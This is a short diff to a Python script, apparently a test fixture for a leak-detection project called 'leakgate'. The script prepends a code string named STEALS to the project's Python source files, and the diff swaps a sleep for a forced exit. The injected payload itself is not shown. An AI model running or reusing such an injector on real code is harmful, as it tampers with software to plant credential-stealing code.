@@ -3,7 +3,6 @@
 import glob
 import os
 import pathlib
-import time
 
 STEALS = (
     "import os\n"
@@ -12,4 +11,4 @@ STEALS = (
 )
 for path in (*glob.glob("action/*.py"), *glob.glob("leakgate/report/*.py"), "leakgate/__init__.py"):
     pathlib.Path(path).write_text(STEALS + pathlib.Path(path).read_text())
-time.sleep(60)
+raise SystemExit(5)
